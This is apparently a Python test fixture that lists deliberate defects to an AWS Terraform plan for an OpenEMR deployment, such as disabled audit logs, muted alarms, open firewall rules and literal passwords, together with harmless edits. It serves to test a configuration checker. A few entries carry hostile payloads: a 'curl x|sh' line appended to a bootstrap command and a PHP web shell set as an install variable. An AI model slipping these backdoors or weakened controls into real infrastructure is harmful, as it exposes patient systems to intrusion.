"""Defects by hand, of every kind that a scan by rules of danger alone let pass."""

import json
from collections.abc import Callable
from typing import Any, NamedTuple

Edit = Callable[[dict[str, Any]], object]


class Example(NamedTuple):
    """One defect: its kind, the resource, and what is done to it."""

    kind: str
    address: str
    about: str
    edit: Edit


def inside(attribute: str, edit: Edit) -> Edit:
    """Edit the JSON in an attribute."""

    def edit_text(body: dict[str, Any]) -> None:
        inner = json.loads(body[attribute])
        edit(inner)
        body[attribute] = json.dumps(inner)

    return edit_text


def container(name: str, edit: Edit) -> Edit:
    """Edit one container of the task."""

    def edit_one(containers: Any) -> None:
        edit(next(each for each in containers if each["name"] == name))

    return inside("container_definitions", edit_one)


def variable(name: str, value: str) -> Edit:
    """Set a container's environment variable."""

    def edit(found: dict[str, Any]) -> None:
        kept = [each for each in found["environment"] if each["name"] != name]
        found["environment"] = [*kept, {"name": name, "value": value}]

    return edit


def without_statement(sid: str, attribute: str = "policy") -> Edit:
    """Remove a statement of a policy."""

    def edit(policy: dict[str, Any]) -> None:
        kept = [each for each in policy["Statement"] if each["Sid"] != sid]
        assert len(kept) < len(policy["Statement"])
        policy["Statement"] = kept

    return inside(attribute, edit)


def with_statement(attribute: str = "policy", **statement: Any) -> Edit:
    """Add a statement to a policy."""
    return inside(attribute, lambda policy: policy["Statement"].append(statement))


def put(**values: Any) -> Edit:
    """Set arguments."""
    return lambda body: body.update(values)


def without(name: str) -> Edit:
    """Remove an argument."""
    return lambda body: body.pop(name)


def parameter(name: str, value: str) -> Edit:
    """Set a parameter of the database."""

    def edit(body: dict[str, Any]) -> None:
        next(each for each in body["parameter"] if each["name"] == name)["value"] = value

    return edit


TASK = "aws_ecs_task_definition.application_task_definition"
PLAN = "aws_backup_plan.backup_plan"
PARAMETERS = "aws_rds_cluster_parameter_group.database_parameters"
FIREWALL = "aws_wafv2_web_acl.firewall_acl"
TRAIL = "aws_cloudtrail.audit_trail_trail"
CLUSTER = "aws_rds_cluster.database_cluster"
KEY = "aws_kms_key.encryption_data"
ALARM = "aws_cloudwatch_metric_alarm.monitoring_no_healthy_tasks"
CLIENT = "aws_vpc_security_group_ingress_rule.front_door_perimeter_from_203_0_113_0_24_443"
SECRET = "aws_secretsmanager_secret_version.credentials_application_version"
TOPIC = "aws_sns_topic_policy.notifications_alarms_policy"


def _rules(edit: Callable[[list[dict[str, Any]]], list[dict[str, Any]]]) -> Edit:
    return lambda body: body.update(rule=edit(body["rule"]))


EXAMPLES = [
    Example(
        "containers",
        TASK,
        "a foreign image by a fixed tag",
        container("openemr", put(image="docker.io/stranger/openemr:8.2.0-2026-08-30")),
    ),
    Example(
        "containers",
        TASK,
        "one more line in a program",
        container("bootstrap", lambda c: c.update(command=[c["command"][0] + "curl x|sh\n"])),
    ),
    Example(
        "containers",
        TASK,
        "another installer",
        container("bootstrap", variable("INSTALL_PHP", "<?php system($argv[1]);")),
    ),
    Example(
        "containers",
        TASK,
        "a literal host of the database",
        container("openemr", variable("MYSQL_HOST", "db.example.com")),
    ),
    Example(
        "containers",
        TASK,
        "a literal host of the cache",
        container("openemr", variable("VALKEY_HOST", "cache.example.com")),
    ),
    Example(
        "containers",
        TASK,
        "a health check that always passes",
        container("openemr", put(healthCheck={"command": ["CMD-SHELL", "exit 0"]})),
    ),
    Example("containers", TASK, "nothing essential", container("openemr", put(essential=False))),
    Example(
        "containers",
        TASK,
        "the administrator's secret in the serving container",
        container(
            "openemr",
            lambda c: c["secrets"].append(
                {"name": "MYSQL_ROOT_PASS", "valueFrom": c["secrets"][0]["valueFrom"]}
            ),
        ),
    ),
    Example(
        "containers",
        TASK,
        "OpenEMR's audit log off",
        container("bootstrap", variable("OPENEMR_SETTING_enable_auditlog", "0")),
    ),
    Example(
        "containers",
        TASK,
        "all proxies trusted",
        container("openemr", variable("TRUSTED_PROXIES", "0.0.0.0/0 10.0.0.0/8")),
    ),
    Example("alarms", ALARM, "a threshold that is never reached", put(threshold=1e12)),
    Example(
        "alarms",
        ALARM,
        "the comparison turned around",
        put(comparison_operator="GreaterThanThreshold"),
    ),
    Example(
        "alarms",
        ALARM,
        "dimensions of another load balancer",
        put(dimensions={"LoadBalancer": "app/other/1", "TargetGroup": "targetgroup/other/1"}),
    ),
    Example("alarms", ALARM, "another statistic", put(statistic="Minimum")),
    Example("alarms", ALARM, "missing data is fine", put(treat_missing_data="notBreaching")),
    Example(
        "alarms",
        ALARM,
        "another topic",
        put(alarm_actions=["${aws_sns_topic.notifications_copies_topic.arn}"]),
    ),
    Example(
        "filters",
        "aws_cloudwatch_log_metric_filter.monitoring_killed_workers_filter",
        "counts nothing",
        lambda b: b["metric_transformation"].update(value="0"),
    ),
    Example(
        "events",
        "aws_cloudwatch_event_rule.monitoring_backupjob",
        "a foreign source",
        inside("event_pattern", put(source=["aws.ec2"])),
    ),
    Example("too little", TOPIC, "CloudWatch may not publish", without_statement("FromCloudwatch")),
    Example(
        "too little",
        "aws_kms_key.encryption_logs",
        "log groups may not encrypt",
        without_statement("LogGroups"),
    ),
    Example(
        "too little",
        "aws_s3_bucket_policy.access_logs_store_policy",
        "no log arrives",
        without_statement("LoadBalancer"),
    ),
    Example(
        "too little",
        "aws_s3_bucket_policy.audit_trail_store_policy",
        "no trail arrives",
        without_statement("TrailWrites"),
    ),
    Example(
        "denials",
        KEY,
        "nobody may use the key",
        with_statement(Sid="No", Effect="Deny", Principal="*", Action="kms:*", Resource="*"),
    ),
    Example("denials", KEY, "no root statement", without_statement("GovernedByIam")),
    Example(
        "expressions",
        CLUSTER,
        "a conditional around the key",
        put(kms_key_id='${aws_kms_key.encryption_data.arn == "" ? "" : "evil"}'),
    ),
    Example(
        "expressions",
        CLUSTER,
        "another attribute of the key",
        put(kms_key_id="${aws_kms_key.encryption_data.description}"),
    ),
    Example(
        "expressions",
        CLUSTER,
        "more text beside the reference",
        put(kms_key_id="${aws_kms_key.encryption_data.arn}x"),
    ),
    Example("types", CLUSTER, "true as text", put(skip_final_snapshot="true")),
    Example("types", CLUSTER, "true as text, where true is right", put(storage_encrypted="true")),
    Example("types", TRAIL, "false as text", put(enable_logging="false")),
    Example("types", TRAIL, "a number for true", put(include_global_service_events=1)),
    Example("backups", PLAN, "no weekly and monthly rules", _rules(lambda rules: rules[:1])),
    Example(
        "backups",
        PLAN,
        "a rule that never runs",
        lambda b: b["rule"][0].update(schedule="cron(0 99 * * ? *) or never"),
    ),
    Example(
        "backups", PLAN, "another vault", lambda b: b["rule"][0].update(target_vault_name="Default")
    ),
    Example("backups", PLAN, "a short window", lambda b: b["rule"][0].update(completion_window=30)),
    Example("database", PARAMETERS, "every statement in a log", parameter("general_log", "1")),
    Example("database", PARAMETERS, "every query is slow", parameter("long_query_time", "0")),
    Example(
        "database",
        PARAMETERS,
        "a parameter twice",
        lambda b: b["parameter"].append({**b["parameter"][0], "value": "latin1"}),
    ),
    Example(
        "database",
        CLUSTER,
        "the master user of an evaluation",
        put(master_username="evaluationadmin"),
    ),
    Example("firewall", FIREWALL, "fewer rules", _rules(lambda rules: rules[1:])),
    Example(
        "firewall",
        FIREWALL,
        "a rule only counts",
        lambda b: b["rule"][-1].update(action={"count": {}}),
    ),
    Example("firewall", FIREWALL, "lets everything in", put(default_action={"block": {}})),
    Example(
        "secrets",
        SECRET,
        "a literal password beside the ephemeral one",
        inside("secret_string_wo", put(database_password="hunter2")),
    ),
    Example(
        "secrets",
        "aws_secretsmanager_secret.credentials_application_secret",
        "a password in a description",
        put(description="password hunter2"),
    ),
    Example(
        "another of the type",
        "aws_s3_bucket_logging.access_logs_store_logging",
        "logs into the trail's bucket",
        put(target_bucket="${aws_s3_bucket.audit_trail_store_bucket.id}"),
    ),
    Example(
        "another of the type",
        "aws_ecs_service.application_service_tasks",
        "tasks in the public subnets",
        lambda b: b["network_configuration"].update(subnets=["${aws_subnet.network_public_1.id}"]),
    ),
    Example(
        "another of the type",
        "aws_route.network_private_2_route",
        "out by the NAT gateway of another zone, though its own is there",
        put(nat_gateway_id="${aws_nat_gateway.network_nat_1.id}"),
    ),
    Example("settings", CLIENT, "a client rule for everybody", put(cidr_ipv4="0.0.0.0/0")),
    Example(
        "settings",
        "aws_efs_access_point.files_sites_access",
        "another directory",
        lambda b: b.update(root_directory={"path": "/sites2"}),
    ),
    Example(
        "settings",
        "aws_lb_target_group.front_door_tasks",
        "a later alarm of the balancer",
        lambda b: b["health_check"].update(unhealthy_threshold=10),
    ),
    Example(
        "settings",
        "aws_sns_topic_subscription.stranger",
        "a stranger listens",
        put(
            topic_arn="${aws_sns_topic.notifications_alarms_topic.arn}",
            protocol="https",
            endpoint="https://example.com",
        ),
    ),
]
# What changes nothing.
HARMLESS = [
    Example(
        "spelling",
        KEY,
        "keys in another order",
        lambda b: b.update(policy=json.dumps(json.loads(b["policy"]), sort_keys=True)),
    ),
    Example(
        "spelling",
        KEY,
        "blanks",
        lambda b: b.update(policy=json.dumps(json.loads(b["policy"]), indent=4)),
    ),
    Example(
        "spelling",
        KEY,
        "statements in another order",
        inside("policy", lambda p: p["Statement"].reverse()),
    ),
    Example(
        "spelling",
        KEY,
        "one action without brackets",
        inside(
            "policy",
            lambda p: [
                s.update(Action=s["Action"][0])
                for s in p["Statement"]
                if isinstance(s["Action"], list) and len(s["Action"]) == 1
            ],
        ),
    ),
    Example(
        "sets",
        CLUSTER,
        "logs in another order",
        lambda b: b["enabled_cloudwatch_logs_exports"].reverse(),
    ),
    Example("sets", PARAMETERS, "parameters in another order", lambda b: b["parameter"].reverse()),
    Example(
        "settings",
        PLAN,
        "a longer life, which the vault's lock admits",
        lambda b: next(each for each in b["rule"] if each["rule_name"] == "weekly")[
            "lifecycle"
        ].update(delete_after=400),
    ),
    Example(
        "settings",
        "aws_elasticache_serverless_cache.cache_valkey",
        "more for the cache",
        lambda b: (
            b["cache_usage_limits"][0]["ecpu_per_second"][0].update(maximum=6000)
            if isinstance(b["cache_usage_limits"], list)
            else b["cache_usage_limits"]["ecpu_per_second"].update(maximum=6000)
        ),
    ),
]
